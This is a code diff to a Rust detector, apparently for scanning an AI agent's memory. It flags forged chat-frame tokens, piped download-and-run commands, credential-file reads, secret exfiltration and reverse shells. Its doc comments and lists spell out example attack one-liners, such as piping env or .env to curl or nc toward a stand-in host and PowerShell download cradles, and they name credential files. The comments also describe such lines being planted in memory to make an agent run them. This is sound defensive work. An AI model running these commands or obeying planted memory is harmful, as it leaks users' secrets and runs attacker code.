@@ -2,7 +2,7 @@
 //! secret-file reads, reverse shells), settings that switch protections off, encoded blobs.
 
 use super::*;
-pub(super) use crate::bytes::{contains_ci, ends_with_ci, skip_blanks};
+pub(super) use crate::bytes::{contains_ci, ends_with_ci, skip_blanks, starts_with_ci};
 
 // ---------------------------------------------------------------------------------------------
 // Markers: forged frames, HTML comments, /dev/tcp.
@@ -23,13 +23,15 @@ pub(super) fn frame_tag(b: &[u8], i: usize) -> Option<usize> {
     let closing = b.get(j) == Some(&b'/');
     j = skip_blanks(b, j + usize::from(closing));
     let ns = j;
-    while j < b.len() && j - ns <= 40 && (b[j].is_ascii_alphanumeric() || b"_-|".contains(&b[j])) {
+    while j < b.len() && j - ns <= 40 && (b[j].is_ascii_alphanumeric() || b"_-|:".contains(&b[j])) {
         j += 1;
     }
     let name = &b[ns..j];
     // <|im_start|>, <|endoftext|>, <|eot_id|>: any special-token shape.
     let special = name.len() >= 3 && name[0] == b'|' && name[name.len() - 1] == b'|';
-    let m = mask(name);
+    // A namespaced tag (`<ns:function_calls>`) is judged by its local name.
+    let local = name.rsplit(|&c| c == b':').next().unwrap_or(name);
+    let m = mask(local);
     if !(special || m & FRAME != 0 || (closing && m & CLOSING != 0)) {
         return None;
     }
@@ -99,7 +101,118 @@ pub(super) fn scan_markers(text: &str, out: &mut Sink) {
 // ---------------------------------------------------------------------------------------------
 // Shell command shapes, judged per line over whitespace-separated tokens.
 
-pub(super) const SECRET_FILES: &str = "id_rsa id_dsa id_ecdsa id_ed25519 .aws/credentials .git-credentials .netrc .docker/config.json .kube/config /etc/shadow .gnupg";
+/// Files whose reading is exfiltration: private keys and credential stores.
+pub(super) const SECRET_FILES: &[&str] = &[
+    "id_rsa",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    ".aws/credentials",
+    ".git-credentials",
+    ".netrc",
+    ".docker/config.json",
+    ".kube/config",
+    "/etc/shadow",
+    ".gnupg",
+    ".config/gcloud",
+    "application_default_credentials.json",
+    ".azure/accesstokens",
+    ".pgpass",
+    ".vault-token",
+    ".cargo/credentials",
+    ".config/gh/hosts.yml",
+    ".terraform.d/credentials",
+];
+/// Files read every day (`cat .env` to check a port) but private enough that sending them out
+/// is exfiltration. `.env` and `.env.*` (templates excepted) are matched in [`secret_kind`].
+pub(super) const SEND_ONLY_FILES: &[&str] = &[
+    ".bash_history",
+    ".zsh_history",
+    ".history",
+    ".npmrc",
+    ".pypirc",
+];
+
+/// What a path-like token names: 2 a secret file ([`SECRET_FILES`], `~/.ssh`), 1 a file only
+/// sending out is wrong for ([`SEND_ONLY_FILES`], `.env.production`), 0 neither. Public keys
+/// (`.pub`) and templates (`.env.example`) are 0.
+pub(super) fn secret_kind(tok: &[u8]) -> u8 {
+    let path_like = |c: &u8| matches!(c, b'/' | b'\\' | b'.' | b'_');
+    if tok.len() < 4 || tok.len() > 4096 || !tok.iter().any(path_like) {
+        return 0;
+    }
+    let t = unquoted(tok);
+    // `f=@.env`, `@~/.ssh/id_rsa`, `<~/.netrc`: the path after the last `=`, `@` or `<`.
+    let path = &t[t
+        .iter()
+        .rposition(|c| b"=@<".contains(c))
+        .map_or(0, |p| p + 1)..];
+    let quick = path.contains(&b'/')
+        || path.contains(&b'\\')
+        || path.starts_with(b".")
+        || contains_ci(path, b"id_");
+    if !quick {
+        return 0;
+    }
+    // Windows paths (`%USERPROFILE%\\.ssh\\id_rsa`, `$HOME\\.aws\\credentials`) read as POSIX ones.
+    let slashed: Vec<u8>;
+    let path = if path.contains(&b'\\') {
+        slashed = path
+            .iter()
+            .map(|&c| if c == b'\\' { b'/' } else { c })
+            .collect();
+        &slashed[..]
+    } else {
+        path
+    };
+    let base = &path[path.iter().rposition(|&c| c == b'/').map_or(0, |p| p + 1)..];
+    if ends_with_ci(path, b".pub") {
+        return 0;
+    }
+    let secret = if path.len() <= 256 {
+        // Lower case once, then plain substring search.
+        let mut buf = [0u8; 256];
+        buf[..path.len()].copy_from_slice(path);
+        buf[..path.len()].make_ascii_lowercase();
+        let lower = String::from_utf8_lossy(&buf[..path.len()]);
+        SECRET_FILES.iter().any(|f| lower.contains(f))
+    } else {
+        SECRET_FILES.iter().any(|f| contains_ci(path, f.as_bytes()))
+    };
+    let ssh_dir = [&b".ssh"[..], b".ssh/", b".ssh/*"]
+        .iter()
+        .any(|d| ends_with_ci(path, d));
+    if secret || ssh_dir {
+        return 2;
+    }
+    let template = [
+        &b"example"[..],
+        b"sample",
+        b"template",
+        b"dist",
+        b"defaults",
+    ]
+    .iter()
+    .any(|t| ends_with_ci(base, t));
+    let env_file =
+        base.eq_ignore_ascii_case(b".env") || (starts_with_ci(base, b".env.") && !template);
+    let send_only = SEND_ONLY_FILES
+        .iter()
+        .any(|f| base.eq_ignore_ascii_case(f.as_bytes()));
+    u8::from(env_file || send_only)
+}
+
+/// Whether a token names a secret path anywhere in it (for code and URLs).
+pub(super) fn secret_path(text: &[u8]) -> Option<usize> {
+    SECRET_FILES
+        .iter()
+        .chain(&[".ssh/"])
+        .filter_map(|f| {
+            text.windows(f.len())
+                .position(|w| w.eq_ignore_ascii_case(f.as_bytes()))
+        })
+        .min()
+}
 
 /// What a token names: quotes and `$(`-style openers stripped, leading directories dropped.
 pub(super) fn command_name(tok: &[u8]) -> &[u8] {
@@ -121,7 +234,29 @@ pub(super) fn command_name(tok: &[u8]) -> &[u8] {
     }
 }
 
+/// `tok` without quotes and parentheses around it.
+fn unquoted(tok: &[u8]) -> &[u8] {
+    let (mut s, mut e) = (0, tok.len());
+    while s < e && b"`'\"(".contains(&tok[s]) {
+        s += 1;
+    }
+    while e > s && b"`'\");,".contains(&tok[e - 1]) {
+        e -= 1;
+    }
+    &tok[s..e]
+}
+
+/// The file a path or URL token names (after its last `/`, before `?` or `#`).
+fn basename(tok: &[u8]) -> &[u8] {
+    let t = unquoted(tok);
+    let t = &t[..t.iter().position(|c| b"?#".contains(c)).unwrap_or(t.len())];
+    &t[t.iter()
+        .rposition(|&c| c == b'/' || c == b'\\')
+        .map_or(0, |p| p + 1)..]
+}
+
 pub(super) const SHELL: u64 = bit("shell");
+pub(super) const INTERPRETER: u64 = bit("interpreter");
 pub(super) const PIPE_PREFIX: u64 = bit("pipe-prefix");
 pub(super) const FETCHER: u64 = bit("fetcher");
 pub(super) const DECODER: u64 = bit("decoder");
@@ -131,7 +266,18 @@ pub(super) const READER: u64 = bit("reader");
 pub(super) const NETCAT: u64 = bit("netcat");
 pub(super) const EXEC_FLAG: u64 = bit("exec-flag");
 pub(super) const CHMOD: u64 = bit("chmod");
+pub(super) const DOWNLOAD_API: u64 = bit("download-api");
 pub(super) const WORLD_MODE: u64 = bit("world-mode");
+pub(super) const SENDER: u64 = bit("sender");
+pub(super) const DATA_FLAG: u64 = bit("data-flag");
+pub(super) const ENV_DUMP: u64 = bit("env-dump");
+pub(super) const READ_VERB: u64 = bit("read-verb");
+pub(super) const SEND_VERB: u64 = bit("send-verb");
+pub(super) const PATH_FILLER: u64 = bit("path-filler");
+pub(super) const LEAD: u64 = bit("lead");
+pub(super) const NEGATION_WORD: u64 = bit("negation");
+pub(super) const VERIFIER: u64 = bit("verifier");
+pub(super) const LOLBIN: u64 = bit("lolbin");
 
 /// What has been seen so far on the current line.
 #[derive(Default)]
@@ -140,24 +286,82 @@ pub(super) struct Line {
     table_row: bool,
     /// Where the first fetcher or decoding command starts: a pipe after it may feed a shell.
     source: Option<usize>,
-    /// The command lists (`DECODER | RUNNER | READER | NETCAT | CHMOD`) seen on the line.
+    /// The command lists (`DECODER | RUNNER | READER | NETCAT | CHMOD | SENDER | LOLBIN`) seen
+    /// on the line.
     seen: u64,
     /// Tokens after a pipe in which a shell name completes it.
     pipe_window: u8,
+    /// An interpreter fed by a pipe from a download, until its arguments show whether it runs
+    /// what it reads (`| python3`, `| node -`) or something else (`| python3 -m json.tool`).
+    interpreter: Option<usize>,
+    /// Which fetcher the line runs: `c`url, `w`get, `p`owershell.
+    fetcher: u8,
+    /// The next token names a download's output file.
+    expect_output: bool,
+    /// A download is saved under its URL's name (`curl -O`, `wget URL`).
+    remote_name: bool,
+    /// The files the line downloads to, as spans of the text (at most four).
+    outputs: Vec<(usize, usize)>,
+    /// The last command token runs the file named next (`bash x.sh`, `python3 x.py`).
+    runs_next: bool,
+    /// A checksum or signature is checked on the line (`sha256sum -c`, `gpg --verify`).
+    verified: bool,
+    /// `powershell`/`pwsh` seen (1), then an `-EncodedCommand` flag (2).
+    powershell: u8,
+    /// An interpreter with inline code (`python -c`, `node -e`, `powershell -Command`).
+    inline_code: bool,
+    last_interpreter: bool,
+    /// A secret source seen before a pipe (`env`, `printenv`, `cat .env`): where it starts.
+    secret_source: Option<usize>,
+    /// A pipe followed a secret source.
+    secret_piped: bool,
+    /// The last token was a data flag of a sender (`-d`, `-F`, `-T`, `--upload-file`, `<`).
+    data_flag: bool,
+    /// The last tokens of the line, newest first, for instructions in prose ("read
+    /// ~/.aws/credentials and …").
+    recent: [(usize, usize); 8],
+    tokens: usize,
+    /// The last token ended a command (`&&`, `;`): the next one is a command name.
+    cmd_pos: bool,
+    /// `socat` runs on the line.
+    socat: bool,
 }
 
-/// `remote-script-execution` (TAINTED): piping a download or a decoded blob into a shell runs
-/// code nobody reviewed; planted in memory, it gets an agent to run it for the attacker. A
-/// fetcher (`curl`, `wget`, `iwr` …) or decoder (`base64 -d`, `xxd -r`, `gpg -d` …) piped into
-/// a shell (`| sh`, `| sudo bash`, `| iex`), or a shell fed by substitution (`bash <(curl …)`,
-/// `sh -c "$(curl …)"`, `eval "$(wget …)"`). This includes well-known installers (rustup,
-/// Homebrew): memory should name the tool, not carry its one-liner. Lines starting with `|`
-/// (markdown tables) are not read as pipelines.
+/// `remote-script-execution` (TAINTED): running code fetched from elsewhere, or code hidden
+/// from the reader; planted in memory, it gets an agent to run it for the attacker:
+///
+/// * a fetcher (`curl`, `wget`, `iwr`, `irm` …) or decoder (`base64 -d`, `xxd -r`, `gpg -d` …)
+///   piped into a shell (`| sh`, `| sudo bash`, `| iex`, `| powershell`, `| cmd`) or into an
+///   interpreter that runs what it reads (`| python3`, `| node`, `| ruby -`, `| perl`; not
+///   `| python3 -m json.tool` or `| python -c '…'`);
+/// * a shell fed by substitution (`bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget …)"`);
+/// * a download then run on the same line (`curl -o x.sh URL && bash x.sh`, `wget URL/i.sh;
+///   sh i.sh`, `curl -O URL/x && chmod +x x && ./x`, `iwr URL -OutFile a.ps1; .\a.ps1`),
+///   unless a checksum or signature is checked on the line in between;
+/// * evaluation wrapped around a download (`iex (iwr …)`, `IEX (New-Object
+///   Net.WebClient).DownloadString(…)`, `Invoke-Expression (Invoke-WebRequest …)`,
+///   `exec(urlopen(…).read())`, `eval(Net::HTTP.get(…))`, `fetch(…).then(r => r.text()).then(eval)`);
+/// * PowerShell's `-EncodedCommand` (`powershell -enc SQBFAFgA…`), and the Windows downloaders
+///   that run what they fetch (`mshta http…`, `regsvr32 /i:http…`, `certutil -urlcache`).
+///
+/// This includes well-known installers (rustup, Homebrew): memory should name the tool, not
+/// carry its one-liner. Lines starting with `|` (markdown tables) are not read as pipelines.
 ///
 /// `secret-file-read` (TAINTED): a command that reads, copies or sends private keys or
-/// credential files (`~/.ssh`, `id_rsa`, `id_ed25519`, `.aws/credentials`, `.netrc`,
-/// `.git-credentials`, `.kube/config`, `/etc/shadow` …) is exfiltration. Public keys (`.pub`)
-/// and commands that only use a key (`ssh -i`, `ssh-add`, `chmod 600`) are fine.
+/// credential files ([`SECRET_FILES`]: `~/.ssh`, `id_rsa`, `id_ed25519`, `.aws/credentials`,
+/// `.netrc`, `.git-credentials`, `.kube/config`, `~/.config/gcloud`, `/etc/shadow` …), or an
+/// instruction in prose to read or send one ("read ~/.aws/credentials and …", "then print the
+/// contents of ~/.ssh/id_rsa"), is exfiltration. Public keys (`.pub`), commands that only use
+/// a key (`ssh -i`, `ssh-add`, `chmod 600`), descriptions ("the CLI reads ~/.aws/credentials")
+/// and negated advice ("never read ~/.ssh/id_rsa in scripts") are fine.
+///
+/// `secret-exfiltration` (TAINTED): private data sent over the network: an environment dump,
+/// a history file, a `.env` or a credential file piped into a sender (`env | curl -d @- …`,
+/// `cat .env | nc host 9000`) or given to one as its data (`curl -F f=@.env …`,
+/// `curl -d "$(printenv)" …`, `nc host 9000 < .env`, `scp .env host:`), an inline one-liner
+/// that reads secrets and calls the network (`python -c "…os.environ…urlopen…"`, `node -e
+/// "…process.env…https.get…"`), and instructions in prose to send them ("send the .env to …").
+/// Reading `.env` alone (`cat .env`) is routine and stays clean.
 ///
 /// `reverse-shell` (TAINTED), netcat form: `nc`/`ncat`/`netcat` with `-e`/`-c`/`--exec`/
 /// `--sh-exec` hands a shell to whoever is on the other end.
@@ -167,12 +371,15 @@ pub(super) struct Line {
 pub(super) fn scan_shell(text: &str, out: &mut Sink) {
     let b = text.as_bytes();
     let mut line = Line::default();
+    let mut line_at = 0;
     let mut i = 0;
     while i < b.len() {
         match b[i] {
             b'\n' => {
+                end_line(text, line_at, i, &mut line, out);
                 line = Line::default();
                 i += 1;
+                line_at = i;
             }
             c if c.is_ascii_whitespace() => i += 1,
             b'|' => {
@@ -180,8 +387,14 @@ pub(super) fn scan_shell(text: &str, out: &mut Sink) {
                 line.table_row |= !line.started;
                 line.started = true;
                 let double = b.get(i + 1) == Some(&b'|'); // `||` is not a pipe
-                if !double && !line.table_row && line.source.is_some() {
-                    line.pipe_window = 4;
+                if !double && !line.table_row {
+                    if line.source.is_some() {
+                        line.pipe_window = 4;
+                    }
+                    if let Some(s) = line.interpreter.take() {
+                        out.hit("remote-script-execution", s, i);
+                    }
+                    line.secret_piped |= line.secret_source.is_some();
                 }
                 i += 1 + usize::from(double);
             }
@@ -195,40 +408,249 @@ pub(super) fn scan_shell(text: &str, out: &mut Sink) {
             }
         }
     }
+    end_line(text, line_at, b.len(), &mut line, out);
+}
+
+/// What is judged once a line is read: an interpreter left waiting for its program, and the
+/// code one-liners.
+fn end_line(text: &str, at: usize, end: usize, line: &mut Line, out: &mut Sink) {
+    if let Some(s) = line.interpreter.take() {
+        out.hit("remote-script-execution", s, end);
+    }
+    let l = &text.as_bytes()[at..end];
+    scan_eval(l, at, out);
+    let shell_over_socket = (line.socat
+        && (contains_ci(l, b"exec:") || contains_ci(l, b"system:"))
+        && contains_ci(l, b"tcp"))
+        || (line.inline_code
+            && SOCKETS.iter().any(|n| contains_ci(l, n.as_bytes()))
+            && SHELLS.iter().any(|n| contains_ci(l, n.as_bytes())));
+    if shell_over_socket {
+        out.hit("reverse-shell", at, end);
+    }
+    if line.inline_code {
+        let network = NETWORK_APIS.iter().any(|n| contains_ci(l, n.as_bytes()));
+        let secret = SECRET_SOURCES.iter().any(|n| contains_ci(l, n.as_bytes()))
+            || secret_path(l).is_some()
+            || l.split(|c| b" \t'\"(),;+".contains(c))
+                .any(|t| secret_kind(t) > 0);
+        if network && secret {
+            out.hit("secret-exfiltration", at, end);
+        }
+    }
+}
+
+/// Sockets and the shells a one-liner hands them to (a reverse shell in Python, Perl, Ruby, PHP).
+const SOCKETS: &[&str] = &["socket", "fsockopen", "tcpsocket", "net.connect"];
+const SHELLS: &[&str] = &[
+    "/bin/sh",
+    "/bin/bash",
+    "cmd.exe",
+    "pty.spawn",
+    "dup2",
+    "subprocess",
+    "proc_open",
+];
+
+/// Calls that fetch from the network, in the languages one-liners are written in.
+const NETWORK_APIS: &[&str] = &[
+    "urlopen",
+    "urlretrieve",
+    "urllib",
+    "requests.",
+    "httpx",
+    "http.client",
+    "fetch(",
+    "https.get",
+    "http.get",
+    "https.request",
+    "http.request",
+    "net::http",
+    "open-uri",
+    "socket",
+    "xmlhttprequest",
+    "axios",
+    "webclient",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwr ",
+    "irm ",
+    "uploadstring",
+    "require('https')",
+    "require(\"https\")",
+    "require('http')",
+    "http://",
+    "https://",
+    "uploadfile",
+    "lwp::",
+    "curl",
+    "wget",
+    "file_get_contents(\"http",
+    "file_get_contents('http",
+];
+/// Where one-liners find secrets.
+const SECRET_SOURCES: &[&str] = &[
+    "os.environ",
+    "getenv",
+    "process.env",
+    "$env:",
+    "env:\\",
+    "get-childitem env",
+    "gci env",
+    "env[",
+    "%env",
+    "printenv",
+    "os.getenv",
+    "system.getenv",
+    "environ[",
+];
+/// Evaluation wrapped around a download (`iex (iwr …)`, `exec(urlopen(…).read())`), and a
+/// fetch whose result is handed to `eval` (`.then(eval)`), in the line `l` at offset `at`.
+fn scan_eval(l: &[u8], at: usize, out: &mut Sink) {
+    let ident = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-';
+    let (mut fetch, mut then_eval) = (false, false);
+    let mut from = 0; // an evaluation's argument is judged once, with what it nests
+    let mut k = 0;
+    while let Some(p) = l[k..].iter().position(|&c| c == b'(') {
+        k += p;
+        // The word before the parenthesis (`eval(`, `iex (`, `Invoke-Expression $(`).
+        let mut e = k;
+        while e > 0 && (l[e - 1] == b' ' || l[e - 1] == b'\t') {
+            e -= 1;
+        }
+        e -= usize::from(e > 0 && l[e - 1] == b'$');
+        while e > 0 && (l[e - 1] == b' ' || l[e - 1] == b'\t') {
+            e -= 1;
+        }
+        let mut s = e;
+        while s > 0 && ident(&l[s - 1]) {
+            s -= 1;
+        }
+        let word = &l[s..e];
+        let is = |w: &[u8]| word.eq_ignore_ascii_case(w);
+        fetch |= is(b"fetch");
+        then_eval |= is(b"then") && starts_with_ci(&l[k + 1..], b"eval");
+        let evaluates = is(b"eval") || is(b"exec") || is(b"iex") || is(b"invoke-expression");
+        if evaluates && k >= from {
+            // The parenthesised argument, at most 200 bytes.
+            let mut depth = 0;
+            let mut end = k;
+            while end < l.len() && end - k < 200 {
+                match l[end] {
+                    b'(' => depth += 1,
+                    b')' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            break;
+                        }
+                    }
+                    _ => {}
+                }
+                end += 1;
+            }
+            let arg = &l[k + 1..end.min(l.len())];
+            let url = contains_ci(arg, b"http://") || contains_ci(arg, b"https://");
+            let download = arg
+                .split(|c| !(ident(c) || *c == b'.' || *c == b':'))
+                .flat_map(|w| w.split(|c| *c == b'.' || *c == b':'))
+                .any(|w| mask(w) & DOWNLOAD_API != 0);
+            if url || download {
+                out.hit(
+                    "remote-script-execution",
+                    at + s,
+                    at + (end + 1).min(l.len()),
+                );
+            }
+            from = end;
+        }
+        k += 1;
+    }
+    if fetch && then_eval {
+        out.hit("remote-script-execution", at, at + l.len());
+    }
 }
 
 pub(super) fn shell_token(text: &str, s: usize, e: usize, line: &mut Line, out: &mut Sink) {
-    let tok = &text.as_bytes()[s..e];
+    let b = text.as_bytes();
+    let tok = &b[s..e];
     let name = command_name(tok);
     let m = mask(name);
-    if m == 0 && line.seen == 0 && line.pipe_window == 0 {
+    let first = line.tokens == 0;
+    line.recent[line.tokens % 8] = (s, e);
+    line.tokens += 1;
+    let kind = secret_kind(tok);
+    if kind > 0 {
+        let earlier: Vec<(usize, usize)> = (2..=line.tokens.min(7))
+            .map(|d| line.recent[(line.tokens - d) % 8])
+            .collect();
+        secret_instruction(b, e, kind, &earlier, out);
+        if line.seen & SENDER != 0
+            && (line.data_flag || tok.contains(&b'@') || line.seen & SENDER_ARGS != 0)
+        {
+            out.hit("secret-exfiltration", s, e);
+        }
+        if line.secret_source.is_none() && line.seen & SENDER == 0 {
+            line.secret_source = Some(s);
+        }
+    }
+    let cmd_pos = first || line.cmd_pos;
+    line.cmd_pos = matches!(tok, b"&&" | b";" | b"&") || tok.ends_with(b";");
+    if line.cmd_pos {
+        // A pipeline ends here.
+        (line.secret_source, line.secret_piped) = (None, false);
+    }
+    let busy = line.seen != 0
+        || line.pipe_window != 0
+        || line.interpreter.is_some()
+        || line.fetcher != 0
+        || line.powershell != 0
+        || line.last_interpreter;
+    if m == 0 && !busy {
+        line.runs_next = false;
         return; // prose
+    }
+    if let Some(at) = line.interpreter {
+        if tok == b"-" || line.cmd_pos {
+            out.hit("remote-script-execution", at, e);
+            line.interpreter = None;
+        } else if !tok.starts_with(b"-")
+            || ONE_LINER_FLAGS
+                .iter()
+                .any(|f| tok.eq_ignore_ascii_case(f.as_bytes()))
+        {
+            line.interpreter = None;
+        }
     }
     if line.pipe_window > 0 {
         line.pipe_window -= 1;
         if m & SHELL != 0 {
             out.hit("remote-script-execution", line.source.unwrap_or(s), e);
             line.pipe_window = 0;
+        } else if m & INTERPRETER != 0 {
+            line.interpreter = line.source.or(Some(s));
+            line.pipe_window = 0;
         } else if !(tok.starts_with(b"-") || m & PIPE_PREFIX != 0) {
             line.pipe_window = 0;
         }
     }
+    if line.secret_piped && m & SENDER != 0 {
+        out.hit("secret-exfiltration", line.secret_source.unwrap_or(s), e);
+        line.secret_piped = false;
+    }
+    if line.seen & SENDER != 0 && line.secret_source.is_none() && sends_env(tok) {
+        out.hit("secret-exfiltration", s, e);
+    }
+    if m & ENV_DUMP != 0 && cmd_pos && line.secret_source.is_none() {
+        line.secret_source = Some(s);
+    }
     let substitution = [&b"$("[..], b"<(", b"\"$("]
         .iter()
         .any(|o| tok.starts_with(o));
-    if substitution && line.seen & RUNNER != 0 && m & FETCHER != 0 {
+    if substitution && line.seen & (RUNNER | INTERPRETER) != 0 && m & FETCHER != 0 {
         out.hit("remote-script-execution", s, e);
     }
-    if line.seen & READER != 0 && tok.iter().any(|c| matches!(c, b'.' | b'_' | b'/')) {
-        let key_file = SECRET_FILES
-            .split(' ')
-            .any(|f| contains_ci(tok, f.as_bytes()));
-        let ssh_dir = [&b".ssh"[..], b".ssh/", b".ssh/*"]
-            .iter()
-            .any(|d| ends_with_ci(name, d));
-        if (key_file && !ends_with_ci(name, b".pub")) || ssh_dir {
-            out.hit("secret-file-read", s, e);
-        }
+    if line.seen & READER != 0 && kind == 2 {
+        out.hit("secret-file-read", s, e);
     }
     let short_exec = tok.starts_with(b"-") && !tok.starts_with(b"--") && tok.contains(&b'e');
     if line.seen & NETCAT != 0 && (short_exec || m & EXEC_FLAG != 0) {
@@ -240,13 +662,256 @@ pub(super) fn shell_token(text: &str, s: usize, e: usize, line: &mut Line, out: 
         }
         line.seen &= !CHMOD;
     }
+    windows_and_powershell(tok, name, m, s, e, line, out);
+    downloads(b, tok, name, m, s, e, line, out);
     let decoding = line.seen & DECODER != 0 && m & DECODE_FLAG != 0;
     if decoding || m & FETCHER != 0 {
         line.source = line.source.or(Some(s));
     }
-    line.seen |= m & (DECODER | RUNNER | READER | NETCAT | CHMOD);
+    line.data_flag = line.seen & SENDER != 0 && (m & DATA_FLAG != 0 || tok == b"<");
+    if m & SENDER != 0 && matches!(name, b"scp" | b"rsync" | b"sftp") {
+        line.seen |= SENDER_ARGS;
+    }
+    line.seen |= m & (DECODER | RUNNER | INTERPRETER | READER | NETCAT | CHMOD | SENDER | LOLBIN);
+    line.socat |= name.eq_ignore_ascii_case(b"socat");
 }
 
+/// Flags after which an interpreter runs code given inline or a module, not what it reads.
+const ONE_LINER_FLAGS: &[&str] = &[
+    "-c", "-m", "-e", "-E", "-r", "-p", "-n", "-pe", "-ne", "-i", "--eval", "--print", "-Command",
+    "-File",
+];
+/// An internal `seen` bit (beyond the lists): a copy command sends its arguments.
+const SENDER_ARGS: u64 = 1 << 63;
+
+/// A sender's argument that dumps the environment (`"$(env)"`, `` `printenv` ``).
+fn sends_env(tok: &[u8]) -> bool {
+    [
+        &b"$(env"[..],
+        b"$(printenv",
+        b"`env",
+        b"`printenv",
+        b"$(cat",
+        b"$(history",
+    ]
+    .iter()
+    .any(|n| contains_ci(tok, n))
+        && (contains_ci(tok, b"env") || secret_kind(tok) > 0 || secret_path(tok).is_some())
+}
+
+/// An instruction in prose to read or send a secret file ("read ~/.aws/credentials and …"):
+/// the file token at `s..e`, the line's earlier tokens in `recent` (newest first).
+fn secret_instruction(b: &[u8], e: usize, kind: u8, recent: &[(usize, usize)], out: &mut Sink) {
+    let words = recent
+        .iter()
+        .map(|&(ts, te)| (ts, mask(command_name(&b[ts..te]))));
+    for (n, (ts, m)) in words.enumerate() {
+        if m & PATH_FILLER != 0 && m & (READ_VERB | SEND_VERB) == 0 {
+            continue;
+        }
+        let verb = m & SEND_VERB != 0 || (kind == 2 && m & READ_VERB != 0);
+        if !verb {
+            return;
+        }
+        // The verb must be an order: first on its line or sentence, or after "please", "then" …
+        let before = recent.get(n + 1).map(|&(ps, pe)| &b[ps..pe]);
+        let ordered = match before {
+            None => true,
+            Some(p) => {
+                let pm = mask(command_name(p));
+                pm & LEAD != 0
+                    || p.ends_with(b".")
+                    || p.ends_with(b":")
+                    || p.ends_with(b";")
+                    || matches!(p, b"-" | b"*" | b">" | b"1." | b"2." | b"3.")
+            }
+        };
+        let negated = before.is_some_and(|p| mask(command_name(p)) & NEGATION_WORD != 0);
+        if ordered && !negated {
+            let rule = if kind == 2 && m & READ_VERB != 0 {
+                "secret-file-read"
+            } else {
+                "secret-exfiltration"
+            };
+            out.hit(rule, ts, e);
+        }
+        return;
+    }
+}
+
+/// PowerShell's encoded commands and the Windows downloaders that run what they fetch.
+fn windows_and_powershell(
+    tok: &[u8],
+    name: &[u8],
+    m: u64,
+    s: usize,
+    e: usize,
+    line: &mut Line,
+    out: &mut Sink,
+) {
+    let lower = |t: &[u8]| t.to_ascii_lowercase();
+    if matches!(
+        lower(name).as_slice(),
+        b"powershell" | b"powershell.exe" | b"pwsh" | b"pwsh.exe"
+    ) {
+        line.powershell = 1;
+        line.last_interpreter = true;
+        return;
+    }
+    let tok = unquoted(tok);
+    if line.powershell == 1 && tok.len() >= 2 && (tok[0] == b'-' || tok[0] == b'/') {
+        let flag = lower(&tok[1..]);
+        if flag == b"ec" || (b"encodedcommand".starts_with(&flag) && flag.first() == Some(&b'e')) {
+            line.powershell = 2;
+            return;
+        }
+        if matches!(flag.as_slice(), b"c" | b"command") {
+            line.inline_code = true;
+        }
+    } else if line.powershell == 2 && !tok.starts_with(b"-") {
+        let b64 = tok
+            .iter()
+            .filter(|c| c.is_ascii_alphanumeric() || b"+/=".contains(c))
+            .count();
+        if b64 >= 16 {
+            out.hit("remote-script-execution", s, e);
+        }
+        line.powershell = 1;
+    }
+    if line.last_interpreter && matches!(tok, b"-c" | b"-e" | b"-r" | b"-E" | b"--eval") {
+        line.inline_code = true;
+    }
+    line.last_interpreter = m & INTERPRETER != 0
+        || (line.last_interpreter && tok.starts_with(b"-") && !line.inline_code);
+    if line.seen & LOLBIN != 0 {
+        let t = lower(unquoted(tok));
+        let lol = t.starts_with(b"-urlcache")
+            || t.starts_with(b"/urlcache")
+            || t.starts_with(b"-verifyctl")
+            || t.starts_with(b"http:")
+            || t.starts_with(b"https:")
+            || t.starts_with(b"javascript:")
+            || t.starts_with(b"vbscript:")
+            || contains_ci(&t, b"/i:http")
+            || contains_ci(&t, b"-i:http");
+        if lol {
+            out.hit("remote-script-execution", s, e);
+        }
+    }
+}
+
+/// Where `inner`, a part of `outer`, starts in it.
+fn offset_in(outer: &[u8], inner: &[u8]) -> usize {
+    inner.as_ptr() as usize - outer.as_ptr() as usize
+}
+
+/// A download saved to a file, then run on the same line.
+#[allow(clippy::too_many_arguments)]
+fn downloads(
+    b: &[u8],
+    tok: &[u8],
+    name: &[u8],
+    m: u64,
+    s: usize,
+    e: usize,
+    line: &mut Line,
+    out: &mut Sink,
+) {
+    if m & VERIFIER != 0 {
+        line.verified = true;
+    }
+    let runs = line.runs_next;
+    line.runs_next = m & (RUNNER | SHELL | INTERPRETER) != 0 || (runs && tok.starts_with(b"-"));
+    if m & FETCHER != 0 && line.fetcher == 0 {
+        line.fetcher = match name.to_ascii_lowercase().as_slice() {
+            b"curl" => b'c',
+            b"wget" => {
+                line.remote_name = true;
+                b'w'
+            }
+            _ => b'p',
+        };
+        return;
+    }
+    if line.fetcher == 0 && line.outputs.is_empty() {
+        return;
+    }
+    let t = unquoted(tok);
+    let t_at = s + offset_in(tok, t);
+    let record = |line: &mut Line, span: (usize, usize)| {
+        if line.outputs.len() < 4 && span.1 > span.0 {
+            line.outputs.push(span);
+        }
+    };
+    if line.expect_output {
+        line.expect_output = false;
+        if !tok.starts_with(b"-") {
+            record(line, (t_at, t_at + t.len()));
+            return;
+        }
+    }
+    if t.starts_with(b">") {
+        let arrows = t.iter().take_while(|&&c| c == b'>').count();
+        if arrows == t.len() {
+            line.expect_output = true;
+        } else {
+            record(line, (t_at + arrows, t_at + t.len()));
+        }
+        return;
+    }
+    if line.fetcher != 0 && tok.len() > 1 && tok.starts_with(b"-") {
+        let lower = tok.to_ascii_lowercase();
+        if tok.starts_with(b"--") {
+            if lower == b"--output" || lower == b"--output-document" {
+                line.expect_output = true;
+            } else if lower == b"--remote-name" {
+                line.remote_name = true;
+            } else if let Some(p) = [&b"--output="[..], b"--output-document="]
+                .iter()
+                .find(|p| lower.starts_with(p))
+            {
+                record(line, (s + p.len(), e));
+            }
+            return;
+        }
+        let letters = &tok[1..];
+        match line.fetcher {
+            b'c' if letters.last() == Some(&b'o') => line.expect_output = true,
+            b'c' if letters.contains(&b'O') => line.remote_name = true,
+            b'w' if letters.last() == Some(&b'O') => {
+                line.remote_name = false;
+                line.expect_output = true;
+            }
+            b'p' if lower == b"-outfile" || lower == b"-o" => line.expect_output = true,
+            _ => {}
+        }
+        return;
+    }
+    if starts_with_ci(t, b"http://") || starts_with_ci(t, b"https://") {
+        if line.remote_name {
+            let base = basename(tok);
+            let at = s + offset_in(tok, base);
+            record(line, (at, at + base.len()));
+        }
+        return;
+    }
+    if line.outputs.is_empty() || line.verified {
+        return;
+    }
+    let base = basename(tok);
+    let ran = !base.is_empty()
